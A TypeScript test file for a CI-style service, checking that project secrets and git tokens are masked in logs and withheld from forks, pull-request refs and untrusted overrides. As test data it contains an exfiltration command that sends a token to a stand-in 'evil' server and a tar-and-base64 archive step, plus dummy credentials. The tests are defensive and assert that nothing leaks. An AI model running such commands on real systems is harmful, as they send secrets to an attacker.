import assert from 'node:assert/strict';
import { chmod, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { openStore } from '@marteau/store';
import { createTempFolder, startApp, startTargetServer } from '@marteau/testkit';
import { openHouse } from './house/house.ts';
import { plainProject, scriptOf } from './house/projects.ts';

const gitPassword = 'glpat-3f9c1b7d';
const secret = 'tok en/"very"-secret-42';

test('a private repository is cloned with the token of its host, and no secret is shown anywhere', async () => {
  await using folder = await createTempFolder();
  await using target = await startTargetServer();
  const file = join(folder.path, 'secrets.yml');
  await writeFile(file, '', { mode: 0o600 });
  // The file is read when the worker starts, and the git server has to be there first to have a port.
  await using house = await openHouse({
    gitAuth: { user: 'deploy', password: gitPassword },
    env: { MARTEAU_SECRETS: file },
    workers: 0,
  });
  const repo = await house.git.createRepo('private', {
    ...plainProject(
      target.url,
      'env: {TOKEN: "$' + '{secrets.TOKEN}"}\nbefore: \'echo "before sees $TOKEN"\'\n',
    ),
    'plain.test.ts': scriptOf(`
      process.stdout.write('in two ' + process.env.TOKEN.slice(0, 7));
      await think(30);
      console.log(process.env.TOKEN.slice(7), encodeURIComponent(process.env.TOKEN), btoa(process.env.TOKEN));
      const response = await fetch(process.env.MARTEAU_TARGET + '/status/500', { headers: { authorization: process.env.TOKEN } });
      if (response.status !== 200) throw new Error('refused ' + process.env.TOKEN);`),
  });
  await writeFile(
    file,
    JSON.stringify({
      git: { [`127.0.0.1:${house.git.port}`]: `deploy:${gitPassword}` },
      projects: { [repo.url]: { TOKEN: secret } },
    }),
  );
  await house.startWorker();
  const id = await house.submit(repo.url, { email: 'ana@example.com' });
  const run = await house.ends(id);
  assert.equal(run.verdict, 'fail', run.reason ?? '');
  const console = await house.file(id, 'console.log');
  assert.match(console, /before sees \*\*\*/);

  const taken = { script: 'other.test.ts', before: ['tar c . | base64'] };
  const other = await house.ends(await house.submit(repo.url, { overrides: taken }));
  assert.equal(other.reasonCode, 'overrides-private', other.reason ?? '');
  assert.match(other.reason!, /leave out the overrides script, before/);

  const forms = [
    secret,
    encodeURIComponent(secret),
    JSON.stringify(secret).slice(1, -1),
    btoa(secret),
    gitPassword,
  ];
  const outputs = [house.web.output(), ...house.workers.map((worker) => worker.output())];
  for (const text of [...outputs, ...(await textsUnder(house.data))]) {
    for (const form of forms) assert.ok(!text.includes(form), `${form} is in ${text.slice(0, 200)}`);
  }
});

/** As a page's form does. */
async function sendForm(url: string, path: string, fields: Record<string, string>): Promise<void> {
  const [cookie = ''] = (await fetch(`${url}/new`)).headers.getSetCookie().map((one) => one.split(';')[0]!);
  const body = new URLSearchParams({ ...fields, _csrf: cookie.split('=')[1]! });
  const answer = await fetch(url + path, { method: 'POST', headers: { cookie }, body, redirect: 'manual' });
  assert.equal(answer.status, 303, await answer.text());
}

test('secrets and a git token that were set on the project’s page are its runs’, and are shown nowhere', async () => {
  await using target = await startTargetServer();
  await using house = await openHouse({ gitAuth: { user: 'deploy', password: gitPassword } });
  const repo = await house.git.createRepo('own', {
    ...plainProject(
      target.url,
      'env: {TOKEN: "$' + '{secrets.TOKEN}"}\nbefore: \'echo "before sees $TOKEN"\'\n',
    ),
  });
  const { id } = await house.api<{ id: string }>('POST', '/projects', { repo: repo.url });
  await sendForm(house.url, `/projects/${id}/secrets`, { name: 'TOKEN', value: secret });
  await sendForm(house.url, `/projects/${id}/git-token`, { token: `deploy:${gitPassword}` });
  const run = await house.ends(await house.submit(repo.url));
  assert.equal(run.verdict, 'pass', run.reason ?? '');
  assert.match(await house.file(run.id, 'console.log'), /before sees \*\*\*/);
  const page = await (await fetch(`${house.url}/projects/${id}/secrets`)).text();
  assert.match(page, /<code>TOKEN<\/code>[\s\S]*Remove it/);
  for (const text of [
    page,
    ...house.workers.map((worker) => worker.output()),
    ...(await textsUnder(house.data)),
  ])
    for (const form of [secret, gitPassword]) assert.ok(!text.includes(form), text.slice(0, 200));
});

test('a project’s secrets go to its own commits as they are written, and nowhere else', async () => {
  await using folder = await createTempFolder();
  await using target = await startTargetServer();
  const evil = await startTargetServer();
  await using _ = evil;
  const file = join(folder.path, 'secrets.yml');
  await writeFile(file, '', { mode: 0o600 });
  await using house = await openHouse({ env: { MARTEAU_SECRETS: file }, workers: 0 });
  const uses = 'env: {TOKEN: "$' + '{secrets.TOKEN}"}\n';
  const repo = await house.git.createRepo('shop', plainProject(target.url, uses));
  const steals = { '.marteau.yml': plainProject(evil.url, uses)['.marteau.yml']! };
  await repo.git('checkout', '--quiet', '--detach');
  const fork = await repo.commit(steals);
  await repo.git('update-ref', 'refs/pull/1/head', 'HEAD');
  const loose = await repo.commit({ ...steals, other: '1' });
  await repo.git('checkout', '--quiet', '-b', 'feature', 'main');
  await repo.commit(steals);
  await repo.git('checkout', '--quiet', 'main');
  await writeFile(file, JSON.stringify({ projects: { [repo.url]: { TOKEN: secret } } }));
  await house.startWorker();

  const before = [`node -e "fetch('${evil.url}/?' + process.env.TOKEN)"`];
  const attacks = [
    ...['refs/pull/1/head', fork, loose, 'feature'].map((ref) => ({ ref })),
    ...Object.entries({
      before,
      after: before,
      env: { PATH: '.' },
      script: './plain.test.ts',
      app: { command: 'x' },
    }).map(([name, value]) => ({ overrides: { [name]: value } })),
    { overrides: { target: evil.url } },
    { overrides: { proxies: { p: { upstream: 'other:80', control: evil.url } } } },
    { ref: 'feature', overrides: { before }, once: true },
  ];
  const ids = await Promise.all(attacks.map((attack) => house.submit(repo.url, attack)));
  for (const [index, id] of ids.entries()) {
    const { reasonCode, reason } = await house.ends(id, 120_000);
    assert.equal(reasonCode, 'secrets-withheld', `${JSON.stringify(attacks[index])}: ${reason}`);
  }
  // The load of a stranger's commit is a stranger's word, whatever commit it is brought to.
  const log = { debug() {}, info() {}, warn() {}, error() {} };
  const store = await openStore({
    redisUrl: house.redis.url,
    dataFolder: house.data,
    log,
    clientName: 'test',
    kind: 'web',
  });
  const { project } = (await store.runs.get(ids[0]!))!;
  const submitter = { kind: 'anonymous', id: '' };
  const brought = await store.runs
    .submit({ request: { repo: repo.url }, project, submitter, trigger: 'test', loadOf: fork })
    .finally(() => store.close());
  assert.equal((await house.ends(brought.id, 120_000)).reasonCode, 'secrets-withheld');
  assert.equal(evil.seen.requests, 0);
  const given = await house.submit(repo.url, { overrides: { cycles: '1', duration: '1s', name: 'Smaller' } });
  assert.equal((await house.ends(given)).verdict, 'pass');
});

test('without the token the reason says what to do', async () => {
  await using target = await startTargetServer();
  await using house = await openHouse({ gitAuth: { user: 'deploy', password: gitPassword } });
  const repo = await house.git.createRepo('private', plainProject(target.url));
  const run = await house.ends(await house.submit(repo.url));
  assert.equal(run.reasonCode, 'clone-authentication');
  assert.match(
    run.reason!,
    /authentication required\. Make the repository public, or give the server a token/,
  );
});

test('a secrets file that others can read keeps the worker from starting', async () => {
  await using folder = await createTempFolder();
  const file = join(folder.path, 'secrets.yml');
  await writeFile(file, 'git: {}');
  await chmod(file, 0o644);
  const start = startApp('apps/worker/src/main.ts', {
    env: { MARTEAU_SECRETS: file, MARTEAU_DATA: folder.path, REDIS_URL: 'redis://127.0.0.1:1' },
  });
  await assert.rejects(start, /has mode 0644, so others on this machine can read it\. Type: chmod 600/);
});

/** What is in the files of the data folder that a person can get at: everything but packed trees and npm's cache. */
async function textsUnder(folder: string): Promise<string[]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const files = entries.filter((entry) => entry.isFile() && !/trees|npm-cache/.test(entry.parentPath));
  return Promise.all(
    files.map(async ({ parentPath, name }) => `${name}: ${await readFile(join(parentPath, name), 'latin1')}`),
  );
}
